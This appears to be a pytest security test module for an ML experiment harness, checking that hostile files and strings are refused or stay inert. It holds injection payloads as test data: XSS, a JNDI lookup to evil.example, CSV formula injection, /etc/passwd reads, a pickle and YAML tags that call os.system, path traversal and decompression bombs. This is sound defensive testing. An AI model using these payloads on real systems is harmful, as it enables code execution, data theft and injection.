"""Files and texts that mean harm: nothing in them is executed, and nothing is written outside `mlruns/`.

Whoever can write a study file, a data file or into `mlruns/` can spoil results, but gets no code run and no other file touched.
`FAULTS` adds a whole study on hostile data, in a process of its own.
"""

import gzip
import json
import os
import pickle
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest.mock import patch

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from markdown_it import MarkdownIt

from harness import __main__ as verbs
from harness import checkpoint, confine, invocation, plugins, run, spec
from harness.data.corpus import prepare
from harness.data.sources import file as file_source
from harness.data.sources import hub
from harness.errors import DamageError, HarnessError, PreflightError, StudyError
from harness.journal import Journal
from harness.results import write_csv
from harness.spec import Data
from harness.tracked import Tracking
from reports import document
from reports.blocks import Document, Heading, Paragraph
from tests import toy
from tests.faults.table import Fault, Row, is_whole
from tests.rendered import html_of, tokens_of
from tests.synthetic import synthetic_results

MARKUP = [
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "[click](javascript:alert(1)) ![](http://evil.example/x.png) <http://evil.example>",
    '#eval("1+1") #read("/etc/passwd") #panic("ran") $ x $ #import "x.typ"',
    "`id` $(id) ``` \\input{/etc/passwd} {{7*7}} ${jndi:ldap://evil.example}",
    "=cmd|' /C calc'!A0 | +1+1 | @SUM(1) \t -2",
    "\x1b[31mred\x1b]0;title\x07 \u202eback \u0000",
]
# What spreadsheets take for the beginning of a formula.
FORMULA = re.compile(r"[=+@\t\r-]")


class Canary:
    """Unpickling one of these makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch {self.path}",)


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Path]:
    """A file that is there only if something was executed; the working folder lies beside it."""
    path = tmp_path / "executed"
    yield path
    assert not path.exists()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working folder with a toy study in it."""
    folder = toy.write(tmp_path / "work")
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture(autouse=True)
def counted(fault: Fault) -> None:
    """Each test here is a case."""
    fault(Row.HOSTILE)


def tree(folder: Path) -> dict[str, bytes | None]:
    """Every path below a folder with its content."""
    return {str(path.relative_to(folder)): path.read_bytes() if path.is_file() else None for path in sorted(folder.rglob("*"))}


def test_a_pickle_is_no_weights(tmp_path: Path, canary: Path) -> None:
    path = tmp_path / "best.safetensors"
    path.write_bytes(pickle.dumps(Canary(canary)))
    with pytest.raises(DamageError, match="can't be read"):
        checkpoint.load_weights(path)


def test_an_archive_of_torch_is_no_weights(tmp_path: Path, canary: Path) -> None:
    path = tmp_path / "best.safetensors"
    torch.save(Canary(canary), path)
    with pytest.raises(DamageError, match="can't be read"):
        checkpoint.load_weights(path)


def test_a_pickle_in_a_checkpoint_whose_manifest_agrees_is_passed_over(tmp_path: Path, canary: Path) -> None:
    saved = checkpoint.Checkpoint(3, {"x": torch.zeros(2)}, {"a": 1})
    checkpoint.save_checkpoint(tmp_path / "run", saved)
    with patch.object(checkpoint, "save", return_value=pickle.dumps(Canary(canary))):
        checkpoint.save_checkpoint(tmp_path / "run", replace(saved, step=6))
    found, said = checkpoint.load_checkpoint(tmp_path / "run")
    assert found is not None and found.step == 3 and len(said) == 1


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system ['touch {0}']",
        "!!python/object/new:os.system ['touch {0}']",
        "!!python/name:os.system",
        "!<tag:yaml.org,2002:python/module:os> x",
        "!include {0}",
    ],
)
def test_tags_of_yaml_are_refused(folder: Path, canary: Path, capsys: pytest.CaptureFixture[str], tag: str) -> None:
    text = tag.format(canary)
    toy.write(folder, toy.TOY.replace("question: Does the engine do the whole job?", f"question: {text}"))
    assert run.main(["toy.yaml", "--quiet"]) == 2
    assert run.main(["toy.yaml", "--quiet", "--set", f"hypothesis={text}"]) == 2
    assert "is not allowed" in capsys.readouterr().err
    assert not (folder / "mlruns").exists()


@pytest.mark.parametrize(
    "name", ["../outside", "a/../../outside", "/tmp/outside", ".", "..", "~", "a\\b", "-rf", "x\0", "\u2024\u2024", "a/b"]
)
def test_names_do_not_leave_their_folder(folder: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    before = tree(folder.parent)
    for key in ("study", "model.rungs.0.name", "model.rungs.0"):
        assert run.main(["toy.yaml", "--quiet", "--set", f"{key}={json.dumps(name)}"]) == 2
    for verb in ("status", "report", "sync", "repair"):
        assert verbs.main([verb, f"./{name}"]) == 2
    assert "Traceback" not in capsys.readouterr().err
    assert tree(folder.parent) == before


@pytest.mark.parametrize(
    "name", ["../decoder", "os.path", "os", "_layers", "decoder.os", "models.decoder", "", "__init__", "decoder/../decoder"]
)
def test_no_module_but_a_plug_in_is_imported(folder: Path, name: str) -> None:
    for package in ("models", "harness.data.sources", "harness.data.tokenizers", "reports.figures"):
        with pytest.raises(StudyError, match="unknown"):
            plugins.load(package, name, "plug-in")
    for key in ("model.arch", "data.source", "data.tokenizer"):
        with pytest.raises(StudyError, match="unknown"):
            spec.load("toy.yaml", [f"{key}={json.dumps(name)}"])


@pytest.mark.parametrize(
    "place", ["", "checkpoints", "checkpoints/0123456789abcdef", "journal.jsonl", "results.csv.part", "lock", "report"]
)
def test_links_out_of_mlruns_are_refused(folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], place: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = outside / "file" if "." in place or place == "lock" else outside
    if target != outside:
        target.write_text("mine")
    link = folder / "mlruns/toy" / place
    link.parent.mkdir(parents=True)
    link.symlink_to(target)
    before = tree(outside)
    assert run.main(["toy.yaml", "--quiet", "--no-track"]) == 5
    err = capsys.readouterr().err
    assert "is a link to" in err and "Nothing was run." in err
    assert tree(outside) == before


def test_links_within_a_study_and_a_linked_mlruns_are_the_users_own(tmp_path: Path) -> None:
    (tmp_path / "disk/toy/checkpoints").mkdir(parents=True)
    (tmp_path / "mlruns").symlink_to(tmp_path / "disk")
    (tmp_path / "disk/toy/latest").symlink_to("checkpoints")
    confine.confined(tmp_path / "mlruns/toy")
    confine.confined(tmp_path / "mlruns/none")
    (tmp_path / "disk/toy/up").symlink_to("..")
    with pytest.raises(PreflightError, match="is a link to"):
        confine.confined(tmp_path / "mlruns/toy")


def test_the_folder_above_is_no_study(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for place in (folder, folder / "mlruns"):
        journal = Journal(place / "journal.jsonl")
        journal.append("invocation", id="a", command="x", started="now")
        journal.close()
    before = tree(folder)
    for verb in ("report", "sync", "repair", "status"):
        for name in ("..", "mlruns/..", "x/..", ".", "/"):
            assert verbs.main([verb, name]) == 2
    assert tree(folder) == before and "no study" in capsys.readouterr().err


def test_verbs_refuse_links_as_well(folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    journal = Journal(folder / "mlruns/toy/journal.jsonl")
    journal.append("invocation", id="a", command="x", started="now")
    journal.close()
    (folder / "mlruns/toy/report").symlink_to(tmp_path)
    for verb in ("report", "sync", "repair", "status"):
        assert verbs.main([verb, "toy"]) == 5
        assert "is a link to" in capsys.readouterr().err


def parquet(table: pa.Table) -> bytes:
    """A table as the bytes of a file."""
    sink = pa.BufferOutputStream()
    pq.write_table(table, sink)
    content: bytes = sink.getvalue().to_pybytes()
    return content


BOMB = gzip.compress(bytes(10**7))
DATA: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "gzip bomb by its name": ("x.csv.gz", lambda: BOMB, "not a kind of file"),
    "gzip bomb as a table": ("x.csv", lambda: BOMB, "is not UTF-8"),
    "gzip bomb as parquet": ("x.parquet", lambda: BOMB, "can't be read as parquet"),
    "a field that never ends": ("x.csv", lambda: b'text\n"' + b"a\n" * 10**6, "can't be read as a table"),
    "cells without a column": ("x.csv", lambda: b"text\na,b,c\nd,e,f\n", "can't be read as a table"),
    "parquet garbage": ("x.parquet", lambda: b"PAR1" + bytes(range(256)) * 40 + b"PAR1", "can't be read as parquet"),
    "parquet cut short": ("x.parquet", lambda: parquet(pa.table({"text": ["a", "b"]}))[:-20], "can't be read as parquet"),
    "parquet bomb": ("x.parquet", lambda: parquet(pa.table({"text": ["a" * 10**5] * 2000})), "more than 10,000,000 characters"),
    "nesting": ("x.jsonl", lambda: b'{"text": ' + b"[" * 10**6, "not JSON"),
    "digits": ("x.jsonl", lambda: b'{"text": ' + b"9" * 10**6 + b"}", "not JSON"),
    "a pickle": ("x.parquet", lambda: pickle.dumps(Canary(Path("executed"))), "can't be read as parquet"),
    "a pickle by its name": ("x.pkl", lambda: pickle.dumps(Canary(Path("executed"))), "not a kind of file"),
    "controls in a column's name": ("x.csv", lambda: b"\x1b[31ma,b\n1,2\n", "There are: \\x1b[31ma, b"),
}


@pytest.mark.parametrize("kind", DATA)
def test_data_files_are_refused_with_a_sentence(folder: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    monkeypatch.setattr(file_source, "MAX_CHARACTERS", 10**7)
    name, content, said = DATA[kind]
    (folder / name).write_bytes(content())
    with pytest.raises(StudyError) as caught:
        file_source.load(Data(source="file", path=name))
    assert said in str(caught.value) and len(str(caught.value)) < 1000
    assert str(caught.value).isprintable()
    assert not (folder / "executed").exists()


@pytest.mark.parametrize(
    "path", ["/dev/zero", "pipe.txt", "/proc/self/mem", "x\0.csv", "~nobody-of-that-name/x.csv", "x" * 5000 + ".csv", "\ud800.csv"]
)
def test_paths_that_are_no_files_of_texts(folder: Path, path: str) -> None:
    os.mkfifo("pipe.txt")
    with pytest.raises(StudyError, match=r"data\.path: ") as caught:
        file_source.load(Data(source="file", path=path))
    assert str(caught.value).isprintable()


def test_a_field_of_five_million_characters_and_one_of_nul_are_texts_as_any_other(folder: Path) -> None:
    Path("x.csv").write_text("text\n" + "\n".join(["a" * 5_000_000, "\0", *(f"text {i}" for i in range(30))]), encoding="utf-8")
    corpus = prepare(Data(source="file", path="x.csv", seq_len=20))
    assert corpus.counts["read"] == 32 and corpus.counts["cut"] == 1 and len(corpus.train.ids) < 32 * 20


@pytest.mark.parametrize("name", ["pandas", "csv", "webdataset", "text"])
def test_a_format_of_files_is_no_data_set(folder: Path, canary: Path, name: str) -> None:
    """One of them would read pickles."""
    pytest.importorskip("datasets")
    Path("d").mkdir()
    Path("d/x.pkl").write_bytes(pickle.dumps(Canary(canary)))
    with pytest.raises(StudyError, match="file format"):
        hub.load(Data(source="hub", path=name, name="d", columns=("text",)))


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report whose every free text is hostile."""
    results = synthetic_results(2)
    study = dict(results.study) | {"question": " ".join(MARKUP), "hypothesis": " ".join(MARKUP[::-1])}
    data = dict(results.data) | {"source": f"file {MARKUP[0]}.csv", "licence": MARKUP[1], "revision": MARKUP[2], "notices": MARKUP}
    samples = results.samples.assign(texts=[MARKUP] * len(results.samples))
    failed = results.runs["status"] != "completed"
    runs = results.runs.assign(reason=results.runs["reason"].where(~failed, " ".join(MARKUP)))
    invocations = results.invocations.assign(command=" ".join(MARKUP), host=MARKUP[0])
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "x.typ").write_text("#panic()")
    hostile = replace(results, study=study, data=data, samples=samples, runs=runs, invocations=invocations)
    document.write(hostile, folder / "report", ["md", "pdf", "html"])
    write_csv(hostile.runs, folder / "results.csv")
    return folder


def test_texts_stay_text_in_the_markdown_report(reported: Path) -> None:
    source = (reported / "report/report.md").read_text(encoding="utf-8")
    assert "alert(1)" in source and "evil.example" in source
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = [child for token in reader.parse(source) for child in (token.children or [token])]
    assert {token.content for token in tokens if token.type in ("html_inline", "html_block")} <= {"<br>"}
    targets = [str(token.attrs[name]) for token in tokens for name in ("href", "src") if name in token.attrs]
    assert targets and all(target.startswith("figures/") for target in targets)
    assert all(line.isprintable() for line in source.splitlines())


def test_texts_stay_text_on_the_html_page(reported: Path) -> None:
    source = (reported / "report/report.html").read_text(encoding="utf-8")
    assert "alert(1)" in source and "evil.example" in source
    tags = set(re.findall(r"<([a-z0-9]+)", source))
    assert not tags & {"script", "iframe", "object", "svg", "form", "input", "b", "i"}
    # What stands between the tags is text, whatever it looks like.
    bare = re.sub(r">[^<]*<", "><", source)
    addresses = re.findall(r"""\s(?:src|href|action|srcset)=["']?([^"'\s>]{1,40})""", bare)
    assert "onerror=" not in bare
    assert addresses and all(re.match(r"#s\d+$|data:image/svg\+xml;base64,", address) for address in addresses)


def test_texts_stay_text_in_the_pdf_report(tmp_path: Path) -> None:
    page = html_of(
        Document(MARKUP[2], MARKUP[0], tuple(block for text in MARKUP for block in (Heading(text), Paragraph((text,))))), tmp_path
    )
    # Were any of it evaluated, `#panic` would have stopped the compiler, and a formula would not show its dollars.
    for text in MARKUP[:4]:
        assert re.sub(r"\s+", " ", page).count(re.sub(r"\s+", " ", text)) >= 2
    template = (Path(document.__file__).parent / "report.typ").read_text(encoding="utf-8")
    assert not re.search(r"\b(eval|read|plugin|include|import)\s*\(|#(import|include)\b", template)


def test_no_cell_of_the_flat_results_is_a_formula(reported: Path) -> None:
    frame = pd.read_csv(reported / "results.csv", dtype=str, keep_default_na=False)
    texts = [
        cell for name in ("key", "stage", "rung", "family", "arch", "lr_source", "lr_status", "status", "name") for cell in frame[name]
    ]
    assert len(texts) > 100 and not [cell for cell in texts if FORMULA.match(cell)]
    quick = Path(__file__).parents[2] / "studies/quick.yaml"
    for bad in ("=1", "+1", "@x", "-1", "\t1"):
        with pytest.raises(StudyError):
            spec.load(quick, [f"model.rungs=[{{name: {json.dumps(bad)}, n_layer: 1, d_model: 8, n_head: 1, d_ff: 8}}]"])


def test_texts_stay_text_in_mlflows_description() -> None:
    """Its pages render Markdown."""
    fold = Tracking("s")
    asked = {"question": MARKUP[0] + MARKUP[1], "hypothesis": MARKUP[3]}
    fold.add({"n": 0, "time": 0.0, "event": "invocation", "id": "a", "command": "x"})
    rung = {"rung": "__a__", "family": "f", "arch": "decoder", "n_params": 1}
    fold.add({"n": 1, "time": 0.0, "event": "plan", "study": asked, "plan": {"rungs": [rung]}, "data": {}})
    note = next(run for run in fold.in_order() if run.parent is None).tags["mlflow.note.content"]
    kinds = {kind for kind, _ in tokens_of(note)}
    assert "alert(1)" in note and not kinds & {"html_inline", "html_block", "link_open", "image"}
    assert ("text", "__a__") in tokens_of(note)


def test_errors_do_not_act_on_a_terminal(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    odd = ["--set", f"{MARKUP[5]}=1", "--set", f"data.source={json.dumps(MARKUP[5])}", "--only", MARKUP[5]]
    assert run.main(["toy.yaml", *odd]) == 2
    assert run.main([MARKUP[5].replace("\0", "")]) == 2
    assert all(line.isprintable() for line in capsys.readouterr().err.splitlines())
    assert str(HarnessError("a\nb\x1b")) == "a\nb\\x1b"


def test_what_a_model_or_a_file_is_called_does_not_act_on_a_terminal(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(verbs, "write_texts", lambda *_: [MARKUP[5], "\ud800"])
    assert verbs.main(["sample", "any"]) == 0
    Path("\x1b[31m.txt").write_text("\n".join(f"text {i}" for i in range(40)))
    said = ['data={source: file, path: "\\e[31m.txt", eval_texts: 4}', "ablations={}"]
    monkeypatch.setattr(invocation, "new_plan", unplanned)
    assert run.main(["toy.yaml", "--plan", "--set", said[0], "--set", said[1]]) == 2
    out, err = capsys.readouterr()
    assert "\\x1b[31m" in out and all(line.isprintable() for line in (out + err).splitlines())


def unplanned(*_: object) -> None:
    """Stands for the measurement of a plan, which takes long."""
    raise StudyError("as far as this test goes")


@pytest.mark.skipif(not is_whole(), reason="a whole study, with FAULTS")
def test_a_study_on_hostile_data_ends_well_and_writes_into_mlruns_only(tmp_path: Path) -> None:
    texts = [f"{MARKUP[i % len(MARKUP)]} {i}".replace("\0", "") for i in range(120)]
    folder = tmp_path / "work"
    hostile = toy.TOY.replace("data: {texts: 400, eval_texts: 32}", "data: {source: file, path: x.jsonl, column: text, eval_texts: 8}")
    toy.write(folder, hostile.replace("question: Does the engine do the whole job?", f"question: {json.dumps(' '.join(MARKUP[:5]))}"))
    (folder / "x.jsonl").write_text("".join(json.dumps({"text": text}) + "\n" for text in texts), encoding="utf-8")
    before = tree(folder)
    # One rung, one seed, no search: what is asked for is the way from hostile text to the report.
    least = ("seeds=1", "search=null", "ablations={}", "train.max_steps=4", "samples.texts=2", "report.formats=[md, pdf]")
    ended = toy.run(folder, *(word for change in least for word in ("--set", change)))
    assert ended.code == 0, ended.err
    assert all(line.isprintable() for line in ended.out.splitlines())
    after = tree(folder)
    assert {name: content for name, content in after.items() if name.split("/")[0] != "mlruns"} == before
    source = (folder / "mlruns/toy/report/report.md").read_text(encoding="utf-8")
    assert {content for kind, content in tokens_of(source) if kind in ("html_inline", "html_block")} <= {"<br>"}
    assert (folder / "mlruns/toy/report/report.pdf").read_bytes().startswith(b"%PDF")
    recorded: list[dict[str, Any]] = toy.events(folder, "samples")
    assert recorded
